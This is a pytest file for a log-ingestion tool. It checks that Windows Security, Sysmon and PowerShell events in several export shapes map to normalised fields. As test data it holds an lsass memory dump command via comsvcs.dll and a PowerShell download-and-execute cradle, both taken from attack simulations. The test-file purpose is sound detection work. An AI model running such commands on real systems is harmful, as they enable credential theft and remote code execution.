"""Windows events as the field ships them, on real public files (tests/data/real/windows, SOURCES.md there):
raw .evtx files, NXLog JSON (Mordor datasets), Windows event XML and Winlogbeat documents, any channel.

Expected values were read off the raw records (evtx_dump output of the .evtx files, the JSON lines as is).
"""

from __future__ import annotations

import gzip
import json
from datetime import datetime, timezone
from pathlib import Path

import duckdb
import orjson
import pyarrow as pa
import pytest
from evtx import PyEvtxParser

from storewatch.ingest import engine
from storewatch.ingest.formats.base import Format, Record
from storewatch.ingest.formats.windows import SQL
from storewatch.ingest.formats.windows_evtx import FORMAT as EVTX, MAGIC
from storewatch.ingest.formats.windows_xml import EVENT_NS
from storewatch.store import db

REAL = Path(__file__).resolve().parents[1] / "data" / "real" / "windows"
SECURITY = REAL / "Security_short_selected.evtx"
NEW_USER = REAL / "new-user-security.evtx"
SYSMON = REAL / "sysmon_first_chunk.evtx"
NXLOG = REAL / "mordor_nxlog_smb_logon.jsonl"
LSASS = REAL / "mordor_lsass_comsvcs.jsonl"
COLUMNS = ("time", "class_name", "activity", "outcome", "reason", "event_code", "host", "user_name", "src_ip",
           "src_port", "dst_ip", "dst_port", "process_name", "command_line", "parent_process", "file_path", "file_hash")


def utc(*args: int) -> datetime:
    return datetime(*args, tzinfo=timezone.utc)


def accounted(report, stored_share: float = 0.95) -> None:
    for f in report.files:
        assert f.read == f.stored + f.quarantined + f.duplicates, f
        assert f.stored >= stored_share * f.read, f


def rows(query) -> list[dict]:
    out = query("SELECT * FROM events ORDER BY source_file, source_line")
    for r in out:
        r["attributes"] = json.loads(r["attributes"]) if r["attributes"] else {}
    return out


def mapped(lines: list[str], tz: str = "UTC") -> list[dict]:
    """The mapping alone over raw lines (no scrubbing), as the engine runs it."""
    con = duckdb.connect()
    con.execute("SET TimeZone='UTC'")
    db.define_macros(con)
    con.execute("SET VARIABLE sw_tz = ?", [tz])
    n = len(lines)
    con.register("batch", pa.table({"line_no": pa.array(range(1, n + 1), pa.int64()),
                                    "line_offset": pa.array([0] * n, pa.int64()), "line": lines}))
    rel = con.sql(SQL)
    out = [dict(zip(rel.columns, r)) for r in rel.fetchall()]
    for r in out:
        r["attributes"] = json.loads(r["attributes"])
    return out


def evtx_events(path: Path) -> list[dict]:
    return [orjson.loads(r["data"]) for r in PyEvtxParser(str(path)).records_json()]


# --- raw .evtx ---------------------------------------------------------------------------------------

def test_evtx_security_logon_failure_and_ntlm(run, query) -> None:
    report = run(SECURITY)
    accounted(report, 1.0)
    assert [f.source_format for f in report.files] == ["windows_evtx"] and report.files[0].stored == 7
    by_code = {r["event_code"]: r for r in rows(query)}
    logon = by_code["4625"]
    assert (logon["class_name"], logon["activity"], logon["outcome"]) == ("Authentication", "logon", "failure")
    assert logon["time"] == utc(2016, 6, 29, 15, 24, 36, 686000)
    assert (logon["host"], logon["user_name"], logon["src_ip"], logon["src_port"]) == ("temporal", "Administrator", "23.94.153.202", 60167)
    assert logon["process_name"] == r"C:\Windows\System32\winlogon.exe"
    assert logon["reason"] == "0xc000006a (wrong password), logon type 10 (remote interactive)"
    attrs = logon["attributes"]
    assert (attrs["logon_type"], attrs["user_domain"], attrs["workstation"]) == (10, "TEMPORAL", "TEMPORAL")
    assert attrs["event_data"]["AuthenticationPackageName"] == "Negotiate" and attrs["event_data"]["SubStatus"] == "0xc000006a"
    assert (attrs["channel"], attrs["provider"], attrs["record_id"], attrs["log"]) == ("Security", "Microsoft-Windows-Security-Auditing", "319457832", "security")
    ntlm = by_code["4776"]
    assert (ntlm["class_name"], ntlm["activity"], ntlm["outcome"], ntlm["user_name"]) == ("Authentication", "ntlm_validate", "failure", "Administrator")
    assert ntlm["reason"] == "0xc000006a (wrong password)" and ntlm["attributes"]["workstation"] == "TEMPORAL"
    blocked = by_code["5157"]
    assert (blocked["class_name"], blocked["outcome"], blocked["src_ip"], blocked["dst_ip"]) == ("Network Activity", "failure", "169.46.6.101", "169.46.118.42")


def test_evtx_account_and_group_changes(run, query) -> None:
    accounted(run(NEW_USER), 1.0)
    got = rows(query)
    created = [r for r in got if r["event_code"] == "4720"]
    assert [(r["class_name"], r["activity"], r["user_name"]) for r in created] == [("Account Change", "account_create", "IEUser")]
    adds = [r for r in got if r["activity"] == "group_member_add"]
    assert sorted((r["event_code"], r["attributes"]["group_name"]) for r in adds) == [
        ("4728", "None"), ("4732", "Administrators"), ("4732", "Users")]
    users = next(r for r in adds if r["attributes"]["group_name"] == "Users")
    # a local group names its member by SID only (MemberName "-")
    assert users["user_name"] == "S-1-5-21-3463664321-2923530833-3546627382-1000" and users["class_name"] == "Group Management"


def test_evtx_of_other_channels_and_a_lone_record(run, query) -> None:
    # python-evtx's test files: a DNS Server analytical log (a channel storewatch has no mapping for, kept as
    # events with their fields, QNAMEs with raw bytes included) and a file holding a single Security record
    accounted(run(REAL / "python-evtx-dns-server-analytical.evtx", REAL / "python-evtx-security-4672.evtx"), 1.0)
    got = rows(query)
    dns = [r for r in got if r["attributes"]["channel"] == "Microsoft-Windows-DNSServer/Analytical"]
    assert [r["event_code"] for r in dns] == ["260", "256", "260", "256", "260"]
    assert {(r["host"], r["class_name"]) for r in dns} == {("ITBDNS03.itb.ie", "Event Log Activity")}
    assert dns[0]["attributes"]["event_data"]["QNAME"] == "appexneuprodweather.blob.core.windows.net."
    assert dns[1]["attributes"]["event_data"]["Source"] == "10.9.15.202" and dns[1]["attributes"]["event_data"]["Port"] == 54530
    assert dns[1]["attributes"]["event_data"]["QNAME"] == "b._dns-sd._udp.@\u00a65\u0001."
    [priv] = [r for r in got if r["event_code"] == "4672"]
    assert (priv["time"], priv["host"], priv["user_name"], priv["activity"], priv["class_name"]) == (
        utc(2017, 6, 23, 5, 31, 19, 787263), "foobar-PC", "foobar", "special_privileges_assigned", "Authorize Session")


def test_evtx_log_cleared_and_a_capi2_record(run, query) -> None:
    # Velocidex/evtx's test files: Security 1102 (the audit log cleared, its fields in UserData) and a CAPI2
    # Operational record whose EventData holds elements with attributes only
    accounted(run(REAL / "velocidex-security-1102-log-cleared.evtx", REAL / "velocidex-capi2-operational-70.evtx"), 1.0)
    got = {r["event_code"]: r for r in rows(query)}
    cleared = got["1102"]
    assert (cleared["time"], cleared["host"], cleared["user_name"], cleared["activity"], cleared["outcome"]) == (
        utc(2019, 2, 9, 17, 5, 24, 672757), "TestComputer", "test", "log_clear", "success")
    assert cleared["attributes"]["event_data"]["SubjectUserSid"] == "S-1-5-21-546003962-2713609280-610790815-1001"
    capi = got["70"]
    assert (capi["time"], capi["host"], capi["attributes"]["channel"]) == (
        utc(2025, 6, 29, 10, 9, 49, 154189), "ILDHBZJST3", "Microsoft-Windows-CAPI2/Operational")
    cert = capi["attributes"]["event_data"]["Certificate"]["#attributes"]
    assert cert["fileRef"] == "3AA55F503B946700761B3990B569E6F248C3D31D.cer"


def test_evtx_sysmon_keeps_every_field(run, query) -> None:
    report = run(SYSMON)
    accounted(report, 1.0)
    assert report.files[0].stored == 41
    got = {r["source_line"]: r for r in rows(query)}
    create = got[1742]  # line_no is the EventRecordID
    assert (create["activity"], create["process_name"], create["parent_process"]) == ("process_create", r"C:\Windows\SysWOW64\PING.EXE", r"C:\Windows\SysWOW64\cmd.exe")
    assert create["command_line"] == "ping  -n 6 127.0.0.1 " and create["user_name"] == r"NT AUTHORITY\SYSTEM"
    assert create["file_hash"] == "8f16a431c919a0aa7c9466ec1cdc1e721f30eb5c8182835585a1b74abecb1920"
    attrs = create["attributes"]
    assert (attrs["md5"], attrs["sha1"], attrs["imphash"]) == ("a27a24553b2c36e139647f88df738c35", "ce8e487cb76704fe5fbb821a78a1e969efbe71f9", "0eb64eaca8c951d760eea1a941a2a3f7")
    assert attrs["event_data"]["CurrentDirectory"] == "C:\\Windows\\Temp\\" and attrs["event_data"]["LogonId"] == "0x3e7"
    access = got[1754]
    assert (access["activity"], access["process_name"]) == ("process_access", r"C:\Windows\system32\svchost.exe")
    assert (access["attributes"]["event_data"]["TargetImage"], access["attributes"]["event_data"]["GrantedAccess"]) == (r"C:\Windows\system32\lsass.exe", "0x1000")
    assert access["attributes"]["event_data"]["CallTrace"].startswith(r"C:\Windows\SYSTEM32\ntdll.dll+a5874|")
    registry = got[1769]
    assert registry["activity"] == "registry_value_set" and registry["attributes"]["event_data"]["TargetObject"].endswith(r"\MpKsle59912eb\Start")
    assert (registry["attributes"]["event_data"]["Details"], registry["attributes"]["event_data"]["EventType"]) == ("DWORD (0x00000004)", "SetValue")


def test_evtx_read_again_adds_nothing(run) -> None:
    first = run(SYSMON)
    again = run(SYSMON)
    assert first.files[0].stored == 41 and (again.files[0].stored, again.files[0].duplicates) == (0, 41)


def test_damaged_evtx_chunk_is_quarantined_with_a_reason(run, query, tmp_path: Path) -> None:
    data = bytearray(SYSMON.read_bytes())
    data[4096 + 512 + 8: 4096 + 512 + 4096] = b"\xff" * (4096 - 8)  # records at the start of the chunk overwritten
    damaged = tmp_path / "damaged.evtx"
    damaged.write_bytes(bytes(data))
    report = run(damaged)
    f = report.files[0]
    assert f.source_format == "windows_evtx" and f.read == f.stored + f.quarantined + f.duplicates
    assert f.quarantined >= 1
    reasons = [q["reason"] for q in query("SELECT reason FROM quarantine")]
    assert reasons and all(r.startswith("damaged evtx") for r in reasons)


def test_evtx_records_are_scrubbed(run, query, tmp_path: Path, monkeypatch) -> None:
    """A card number inside a binary container is replaced before the record goes anywhere."""
    event = evtx_events(SYSMON)[0]
    event["Event"]["EventData"]["CommandLine"] = "pay.exe --card 4111111111111111"
    text = orjson.dumps(event).decode()

    def records(_stream) -> list[Record]:
        return [Record(1, 1, text)]

    fake = Format(name="windows_evtx", channel="endpoint", sql=SQL, looks_like=lambda _: False,
                  records=records, document=True, magic=MAGIC)
    monkeypatch.setattr(engine, "DOCUMENT_FORMATS", [fake])
    path = tmp_path / "card.evtx"
    path.write_bytes(MAGIC + b"\x00" * 100)
    report = run(path)
    assert report.files[0].pans_scrubbed == 1 and report.files[0].stored == 1
    (row,) = rows(query)
    assert "4111111111111111" not in row["command_line"] and "[PAN:last4=1111:tok=" in row["command_line"]


def test_evtx_format_is_claimed_by_magic_only() -> None:
    assert EVTX.magic == b"ElfFile\x00" and SECURITY.read_bytes().startswith(EVTX.magic)
    assert not EVTX.looks_like("ElfFile")


# --- the same event in other shapes ------------------------------------------------------------------

def _as_xml(path: Path, rendering: str = "") -> str:
    """The file's events as the XML wevtutil prints (rendered by the evtx parser from the same records)."""
    xmls = [r["data"] for r in PyEvtxParser(str(path)).records()]
    if rendering:
        xmls = [x.replace("</Event>", rendering + "</Event>") for x in xmls]
    return "<Events>\n" + "\n".join(x.split("?>", 1)[-1].strip() for x in xmls) + "\n</Events>\n"


def _winlogbeat(event: dict) -> dict:
    """The document Winlogbeat 8 ships for an event (its documented winlog.* fields; ECS event.*)."""
    system, data = event["Event"]["System"], event["Event"]["EventData"]
    failure = system["Keywords"].startswith("0x801")
    return {
        "@timestamp": system["TimeCreated"]["#attributes"]["SystemTime"],
        "event": {"code": str(system["EventID"]), "kind": "event", "outcome": "failure" if failure else "success",
                  "provider": system["Provider"]["#attributes"]["Name"]},
        "host": {"name": system["Computer"]},
        "winlog": {"api": "wineventlog", "channel": system["Channel"], "computer_name": system["Computer"],
                   "event_id": str(system["EventID"]), "provider_name": system["Provider"]["#attributes"]["Name"],
                   "record_id": system["EventRecordID"], "keywords": ["Audit Failure" if failure else "Audit Success"],
                   "task": "Logon", "opcode": "Info",
                   "event_data": {k: str(v) for k, v in data.items() if v is not None}},
        "message": "An account failed to log on.",
    }


def _winlogbeat6(event: dict) -> dict:
    """Winlogbeat 6.x put the winlog fields at the top level."""
    system, data = event["Event"]["System"], event["Event"]["EventData"]
    return {"@timestamp": system["TimeCreated"]["#attributes"]["SystemTime"], "computer_name": system["Computer"],
            "event_id": system["EventID"], "log_name": system["Channel"], "source_name": system["Provider"]["#attributes"]["Name"],
            "record_number": str(system["EventRecordID"]), "keywords": ["Audit Failure"], "level": "Information",
            "event_data": {k: str(v) for k, v in data.items() if v is not None}, "type": "wineventlog"}


def _nxlog(event: dict) -> dict:
    """The record NXLog im_msvistalog + to_json() writes: System fields and EventData side by side."""
    system, data = event["Event"]["System"], event["Event"]["EventData"]
    return {"EventTime": system["TimeCreated"]["#attributes"]["SystemTime"][:19].replace("T", " "),
            "Hostname": system["Computer"], "Keywords": int(system["Keywords"], 16) - (1 << 64),
            "EventType": "AUDIT_FAILURE", "SeverityValue": 4, "Severity": "ERROR", "EventID": system["EventID"],
            "SourceName": system["Provider"]["#attributes"]["Name"], "Task": system["Task"],
            "RecordNumber": system["EventRecordID"], "Channel": system["Channel"], **data}


@pytest.mark.parametrize("shape", ["xml", "winlogbeat", "winlogbeat6", "nxlog"])
def test_same_logon_in_every_shape_maps_alike(run, query, tmp_path: Path, shape: str) -> None:
    events = [e for e in evtx_events(SECURITY) if e["Event"]["System"]["EventID"] == 4625]
    want = mapped([orjson.dumps(e).decode() for e in events])
    assert want[0]["user_name"] == "Administrator" and want[0]["src_ip"] == "23.94.153.202"
    if shape == "xml":
        path = tmp_path / "security.xml"
        path.write_text(_as_xml(SECURITY))
    else:
        shaped = {"winlogbeat": _winlogbeat, "winlogbeat6": _winlogbeat6, "nxlog": _nxlog}[shape]
        path = tmp_path / f"security-{shape}.json"
        path.write_text("".join(orjson.dumps(shaped(e)).decode() + "\n" for e in events))
    report = run(path)
    accounted(report, 1.0)
    assert report.files[0].source_format == ("windows_xml" if shape == "xml" else "windows")
    got = [r for r in rows(query) if r["event_code"] == "4625"]
    columns = [c for c in COLUMNS if not (shape == "nxlog" and c == "time")]  # NXLog keeps whole seconds
    assert [{c: r[c] for c in columns} for r in got] == [{c: r[c] for c in columns} for r in want]
    assert got[0]["attributes"]["logon_type"] == 10 and got[0]["attributes"]["event_data"]["IpAddress"] == "23.94.153.202"


def test_any_channel_xml_with_rendering_info(run, query, tmp_path: Path) -> None:
    rendering = ("<RenderingInfo Culture='en-US'><Message>An account failed to log on.</Message><Level>Information</Level>"
                 "<Task>Logon</Task><Keywords><Keyword>Audit Failure</Keyword></Keywords></RenderingInfo>")
    path = tmp_path / "rendered.xml"
    path.write_text(_as_xml(NEW_USER, rendering))
    assert EVENT_NS in path.read_text()
    report = run(path)
    accounted(report, 1.0)
    assert report.files[0].source_format == "windows_xml" and report.files[0].stored == 4
    got = rows(query)
    assert {r["activity"] for r in got} == {"account_create", "group_member_add"}
    assert all(r["message"] == "An account failed to log on." for r in got)


# --- NXLog JSON (Mordor datasets) --------------------------------------------------------------------

def test_nxlog_security_events_mapped() -> None:
    lines = NXLOG.read_text().splitlines()
    got = {r["attributes"]["record_id"]: r for r in mapped(lines, tz="America/New_York")}
    assert len(got) == len(lines) and all(r["_error"] is None for r in got.values())
    logon = got["933021"]
    # EventTime is the collector's local time (EDT here): 14:53:30 local is 18:53:30 UTC
    assert logon["time"] == utc(2020, 9, 22, 18, 53, 30)
    assert (logon["class_name"], logon["activity"], logon["outcome"]) == ("Authentication", "logon", "success")
    assert (logon["user_name"], logon["src_ip"], logon["src_port"], logon["host"]) == ("pgustavo", "172.18.39.5", 62782, "WORKSTATION6.theshire.local")
    assert logon["attributes"]["logon_type"] == 3 and logon["reason"] == "logon type 3 (network)"
    assert logon["attributes"]["event_data"]["AuthenticationPackageName"] == "Kerberos"
    assert "EventTime" not in logon["attributes"]["event_data"] and "Keywords" not in logon["attributes"]["event_data"]
    privileges = got["933020"]
    assert (privileges["class_name"], privileges["user_name"]) == ("Authorize Session", "pgustavo")
    share = got["933026"]
    assert (share["activity"], share["file_path"], share["attributes"]["event_data"]["ShareName"]) == ("share_object_access", r"ProgramData\GruntHTTP.exe", r"\\*\C$")
    ticket = got["2193139"]
    assert (ticket["activity"], ticket["user_name"], ticket["attributes"]["event_data"]["ServiceName"]) == ("kerberos_service_ticket", "pgustavo@THESHIRE.LOCAL", "WORKSTATION6$")
    wfp = got["933019"]
    assert (wfp["src_ip"], wfp["dst_ip"], wfp["dst_port"], wfp["protocol"]) == ("172.18.39.5", "172.18.39.6", 445, "tcp")
    # Sysmon events in the same stream keep their own UTC time
    sysmon = [r for r in got.values() if r["attributes"]["log"] == "sysmon"]
    assert sysmon and all(r["activity"].startswith("registry_") and r["attributes"]["event_data"]["TargetObject"] for r in sysmon)


def test_nxlog_file_stored_whole(run) -> None:
    """NXLog's Keywords -9214364837600034816 (the audit success mask as a signed 64-bit number) passes Luhn:
    the scrubber must leave it, or the JSON breaks and the record is quarantined."""
    accounted(run(NXLOG))


def test_nxlog_sysmon_keeps_every_field(run, query) -> None:
    report = run(LSASS)
    accounted(report, 1.0)
    assert report.files[0].source_format == "windows"
    got = rows(query)
    create = next(r for r in got if r["event_code"] == "1")
    assert create["time"] == utc(2020, 10, 18, 23, 50, 5, 910000)  # UtcTime: the export's TimeCreated lost AM/PM
    assert create["command_line"].endswith(r"comsvcs.dll MiniDump 756 C:\Users\wardog\AppData\Local\Temp\lsass-comsvcs.dmp full")
    data = create["attributes"]["event_data"]
    assert (data["OriginalFileName"], data["Company"], data["Description"]) == ("RUNDLL32.EXE", "Microsoft Corporation", "Windows host process (Rundll32)")
    assert (create["attributes"]["md5"], create["attributes"]["imphash"]) == ("f68af942fd7ccc0e7bab1a2335d2ad26", "f27a7fc3a53e74f45be370131953896a")
    assert create["file_hash"] == "11064e9edc605bd5b0c0a505538a0d5fd7de53883af342f091687cae8628acd0"
    access = next(r for r in got if r["event_code"] == "10" and r["attributes"]["event_data"]["TargetImage"] == r"C:\Windows\System32\rundll32.exe")
    assert (access["process_name"], access["attributes"]["event_data"]["GrantedAccess"]) == (r"C:\windows\system32\csrss.exe", "0x1fffff")
    assert access["attributes"]["event_data"]["CallTrace"].startswith(r"C:\windows\SYSTEM32\ntdll.dll+9c584|")
    loads = [r for r in got if r["event_code"] == "7"]
    assert loads and all(r["activity"] == "image_load" and r["file_path"] for r in loads)


def test_winlogbeat_user_data_and_log_clear(tmp_path: Path) -> None:
    """1102 carries UserData, not EventData: evtx nests it under its element name, Winlogbeat flattens it."""
    evtx_shape = {"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Eventlog"}}, "EventID": 1102,
                                       "Channel": "Security", "Computer": "DC1", "Keywords": "0x4020000000000000",
                                       "TimeCreated": {"#attributes": {"SystemTime": "2020-09-22T18:50:00.000000Z"}}},
                            "UserData": {"LogFileCleared": {"SubjectUserName": "wardog", "SubjectDomainName": "THESHIRE"}}}}
    beat = {"@timestamp": "2020-09-22T18:50:00.000Z", "winlog": {"event_id": "1102", "channel": "Security",
            "provider_name": "Microsoft-Windows-Eventlog", "computer_name": "DC1",
            "user_data": {"SubjectUserName": "wardog", "SubjectDomainName": "THESHIRE", "xml_name": "LogFileCleared"}}}
    a, b = mapped([orjson.dumps(evtx_shape).decode(), orjson.dumps(beat).decode()])
    for r in (a, b):
        assert (r["class_name"], r["activity"], r["user_name"], r["host"]) == ("Event Log Activity", "log_clear", "wardog", "DC1")
        assert r["time"] == utc(2020, 9, 22, 18, 50)


def test_elastic_agent_ecs_fields_fill_in() -> None:
    """Elastic Agent's Sysmon pipeline moves fields to ECS (process.*, source.*); they fill what event_data lacks."""
    doc = {"@timestamp": "2020-10-18T23:50:05.910Z", "host": {"name": "WORKSTATION5"},
           "winlog": {"event_id": "3", "channel": "Microsoft-Windows-Sysmon/Operational", "provider_name": "Microsoft-Windows-Sysmon",
                      "computer_name": "WORKSTATION5", "event_data": {"RuleName": "-", "Initiated": "true"}},
           "process": {"executable": r"C:\Windows\System32\rundll32.exe", "command_line": "rundll32.exe x.dll,Run"},
           "source": {"ip": "10.0.0.5", "port": 50123}, "destination": {"ip": "203.0.113.9", "port": 443}}
    (r,) = mapped([orjson.dumps(doc).decode()])
    assert (r["activity"], r["process_name"], r["command_line"]) == ("network_connect", r"C:\Windows\System32\rundll32.exe", "rundll32.exe x.dll,Run")
    assert (r["src_ip"], r["src_port"], r["dst_ip"], r["dst_port"], r["host"]) == ("10.0.0.5", 50123, "203.0.113.9", 443, "WORKSTATION5")
    assert r["time"] == utc(2020, 10, 18, 23, 50, 5, 910000)


def test_beats_xml_any_channel(run, query) -> None:
    """Winlogbeat's own test XML (as `wevtutil qe /f:xml` prints it): Sysmon 9.01 and an Application event."""
    report = run(REAL / "beats_sysmon_9.01_excerpt.xml", REAL / "beats_application_wer.xml")
    accounted(report, 1.0)
    assert [f.source_format for f in report.files] == ["windows_xml", "windows_xml"]
    got = {r["attributes"]["record_id"]: r for r in rows(query)}
    create = got["7"]
    assert (create["activity"], create["process_name"], create["parent_process"]) == ("process_create", r"C:\Windows\System32\wbem\WmiPrvSE.exe", r"C:\Windows\System32\svchost.exe")
    assert create["file_hash"] == create["attributes"]["sha1"] == "5a4c0e82ff95c9fb762d46a696ef9f1b68001c21"  # only SHA1 configured
    assert (create["attributes"]["event_data"]["Description"], create["attributes"]["event_data"]["Company"]) == ("WMI Provider Host", "Microsoft Corporation")
    connect = got["10"]
    assert (connect["activity"], connect["src_ip"], connect["src_port"], connect["dst_ip"], connect["dst_port"], connect["protocol"]) == (
        "network_connect", "10.0.2.15", 1138, "40.77.226.250", 443, "tcp")
    assert connect["time"] == utc(2019, 3, 18, 16, 57, 49, 340580) and connect["user_name"] == r"VAGRANT-2012-R2\vagrant"
    assert got["2"]["activity"] == "sysmon_state_change" and got["2"]["attributes"]["event_data"]["State"] == "Started"
    wer = got["420107"]
    assert (wer["class_name"], wer["activity"], wer["outcome"], wer["host"]) == ("Event Log Activity", "event_1001", "unknown", "vagrant")
    assert (wer["attributes"]["log"], wer["attributes"]["provider"]) == ("application", "Windows Error Reporting")
    assert "WindowsWcpOtherFailure3" in wer["attributes"]["event_data"]["Data"]["#text"]


def test_compressed_evtx(run, query, tmp_path: Path) -> None:
    path = tmp_path / "Security.evtx.gz"
    with gzip.open(path, "wb") as out:
        out.write(SECURITY.read_bytes())
    report = run(path)
    assert (report.files[0].source_format, report.files[0].stored) == ("windows_evtx", 7)
    assert {r["event_code"] for r in rows(query)} >= {"4625", "4776"}


def test_azure_monitor_export_shape(run, query, tmp_path: Path) -> None:
    """A JSON array as the Azure Monitor agent exports it (OTRF Security-Datasets, WORKSTATION6 Security 2022):
    flat System fields, EventData both as an XML string and as top-level fields."""
    record = {"EventSourceName": "Microsoft-Windows-Security-Auditing", "Provider": "Microsoft-Windows-Security-Auditing",
              "Level": "0", "Keywords": "0x8020000000000000", "Channel": "Security", "Computer": "WORKSTATION6.mssentinel.local",
              "TimeCreated": "2022-09-22T12:31:14.259Z", "TimeGenerated": "2022-09-22T04:31:14.259Z", "EventRecordID": "1350050",
              "EventID": 4688, "Message": "A new process has been created.",
              "EventData": f"<EventData xmlns=\"{EVENT_NS}\"><Data Name=\"SubjectUserName\">wardog</Data></EventData>",
              "Task": "13312", "SubjectUserName": "wardog", "SubjectDomainName": "MSSENTINEL", "NewProcessId": "0x3054",
              "NewProcessName": r"C:\Windows\System32\notepad.exe", "CommandLine": '"C:\\Windows\\system32\\notepad.exe"',
              "ParentProcessName": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "TargetUserName": "-"}
    path = tmp_path / "export.json"
    path.write_text(json.dumps([record, record | {"EventRecordID": "1350051", "NewProcessId": "0x3055"}]))
    accounted(run(path), 1.0)
    got = rows(query)
    assert len(got) == 2
    r = got[0]
    assert (r["class_name"], r["activity"], r["outcome"], r["user_name"]) == ("Process Activity", "process_create", "success", "wardog")
    assert (r["process_name"], r["command_line"]) == (r"C:\Windows\System32\notepad.exe", '"C:\\Windows\\system32\\notepad.exe"')
    assert r["parent_process"].endswith("powershell.exe") and r["time"] == utc(2022, 9, 22, 12, 31, 14, 259000)
    assert "EventData" not in r["attributes"]["event_data"] and r["attributes"]["event_data"]["NewProcessId"] in ("0x3054", "0x3055")


def test_evtx_logons_service_and_local(run, query) -> None:
    """A workstation's first Security chunk: service logons (benign, no address), local failures, explicit credentials."""
    report = run(REAL / "security_logons_first_chunk.evtx")
    accounted(report, 1.0)
    assert report.files[0].stored == 114
    got = {r["source_line"]: r for r in rows(query)}
    service = got[5]
    assert (service["activity"], service["outcome"], service["user_name"], service["reason"]) == ("logon", "success", "SYSTEM", "logon type 5 (service)")
    assert service["src_ip"] is None and service["src_port"] is None  # IpAddress "-", IpPort "-"
    boot = got[2]
    assert boot["reason"] == "logon type 0 (system)" and boot["process_name"] is None  # ProcessName ""
    must_change = got[59]
    assert (must_change["outcome"], must_change["user_name"], must_change["src_ip"], must_change["src_port"]) == ("failure", "Administrator", "127.0.0.1", None)
    assert must_change["reason"] == "0xc0000224 (password must change), logon type 2 (interactive)"
    wrong = got[75]
    assert wrong["reason"] == "0xc000006a (wrong password), logon type 2 (interactive)" and wrong["process_name"] == r"C:\Windows\explorer.exe"
    explicit = got[68]
    assert (explicit["activity"], explicit["user_name"], explicit["src_ip"]) == ("explicit_credentials_logon", "Administrator", "127.0.0.1")
    assert explicit["attributes"]["event_data"]["SubjectUserName"] == "WIN-L0ZZQ76PMUF$"
    assert (got[62]["activity"], got[62]["outcome"]) == ("ntlm_validate", "success")
    assert (got[66]["activity"], got[66]["user_name"], got[66]["attributes"]["logon_type"]) == ("logoff", "Administrator", 2)
    logons = [r for r in got.values() if r["event_code"] == "4624"]
    assert len(logons) == 33 and all(r["attributes"]["logon_type"] is not None for r in logons)


def test_evtx_system_service_installs(run, query) -> None:
    report = run(REAL / "system_first_chunk.evtx")
    accounted(report, 1.0)
    got = rows(query)
    assert len(got) == 108
    installs = [r for r in got if r["event_code"] == "7045"]
    assert len(installs) == 13 and all(r["activity"] == "service_install" and r["attributes"]["log"] == "system" for r in installs)
    first = next(r for r in installs if r["source_line"] == 45)
    assert (first["attributes"]["event_data"]["ServiceName"], first["process_name"], first["command_line"]) == (
        "UMDF Reflector service for Sensors HID Class Driver", r"\SystemRoot\System32\drivers\WUDFRd.sys", r"\SystemRoot\System32\drivers\WUDFRd.sys")
    assert first["time"] == utc(2017, 7, 12, 17, 16, 29, 401630) and first["host"] == "WIN-P4SIAA0SQCO"
    other = [r for r in got if r["attributes"]["provider"] == "Microsoft-Windows-Kernel-General"]
    assert other and all(r["class_name"] == "Event Log Activity" and r["activity"].startswith("event_") for r in other)


def test_halved_batch_mapped_out_of_order_keeps_its_rows(run, query, tmp_path: Path, monkeypatch) -> None:
    """A batch too big for DuckDB's memory is mapped in halves (engine `_map`); a half whose rows come back
    out of order (hash joins may reorder) must be matched by its own line numbers, not quarantined."""
    sql = ("SELECT line_no, NULL AS _error, TIMESTAMPTZ '2024-01-01 00:00:00+00' AS time, 'Process Activity' AS class_name, "
           "line AS message, CASE WHEN (SELECT count(*) FROM batch) > 2 THEN error('too big') END AS activity "
           "FROM batch ORDER BY line_no DESC")
    fake = Format(name="windows", channel="endpoint", sql=sql, looks_like=lambda line: line.startswith("{\"x\""))
    monkeypatch.setattr(engine, "LINE_FORMATS", [fake])
    path = tmp_path / "four.jsonl"
    path.write_text("".join(f'{{"x": {i}}}\n' for i in range(4)))
    report = run(path)
    assert (report.files[0].stored, report.files[0].quarantined) == (4, 0)
    assert [r["message"] for r in query("SELECT message FROM events ORDER BY source_line")] == [f'{{"x": {i}}}' for i in range(4)]


def _event(provider: str, channel: str, event_id: int, data: dict) -> str:
    return orjson.dumps({"Event": {"System": {"Provider": {"#attributes": {"Name": provider}}, "EventID": event_id,
                                              "Channel": channel, "Computer": "POS-01", "Keywords": "0x8020000000000000",
                                              "TimeCreated": {"#attributes": {"SystemTime": "2024-05-01T10:00:00.000000Z"}}},
                                   "EventData": data}}).decode()


def test_security_system_powershell_events_per_table() -> None:
    """The event table's rules for events with no public sample here (fields as Microsoft documents them)."""
    task = ("<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task><Actions Context=\"Author\"><Exec><Command>C:\\Users\\Public\\u.exe</Command>"
            "<Arguments>-k run</Arguments></Exec></Actions></Task>")
    sec = "Microsoft-Windows-Security-Auditing"
    got = mapped([
        _event(sec, "Security", 4688, {"SubjectUserName": "clerk", "SubjectDomainName": "SHOP", "NewProcessName": r"C:\Windows\System32\cmd.exe",
                                       "CommandLine": "cmd /c whoami", "ParentProcessName": r"C:\Windows\explorer.exe", "TargetUserName": "-"}),
        _event(sec, "Security", 4698, {"SubjectUserName": "clerk", "TaskName": "\\Updater", "TaskContent": task}),
        _event(sec, "Security", 4697, {"SubjectUserName": "admin", "ServiceName": "PSEXESVC", "ServiceFileName": r"%SystemRoot%\PSEXESVC.exe"}),
        _event(sec, "Security", 4771, {"TargetUserName": "clerk", "IpAddress": "::ffff:10.1.2.3", "IpPort": "50111", "Status": "0x18"}),
        _event(sec, "Security", 4732, {"MemberName": "CN=clerk,OU=Shop,DC=corp", "MemberSid": "S-1-5-21-1", "TargetUserName": "Administrators",
                                       "SubjectUserName": "admin"}),
        _event("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", 4104,
               {"MessageNumber": 1, "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x')", "Path": ""}),
        _event("Service Control Manager", "System", 7045, {"ServiceName": "evil", "ImagePath": "cmd.exe /c calc", "AccountName": "LocalSystem"}),
    ])
    proc, task_row, svc, kerb, group, ps, scm = got
    assert (proc["activity"], proc["user_name"], proc["process_name"], proc["command_line"], proc["parent_process"]) == (
        "process_create", "clerk", r"C:\Windows\System32\cmd.exe", "cmd /c whoami", r"C:\Windows\explorer.exe")
    assert proc["attributes"]["user_domain"] == "SHOP"
    assert (task_row["class_name"], task_row["activity"], task_row["file_path"], task_row["command_line"]) == (
        "Scheduled Job Activity", "scheduled_task_create", "\\Updater", r"C:\Users\Public\u.exe -k run")
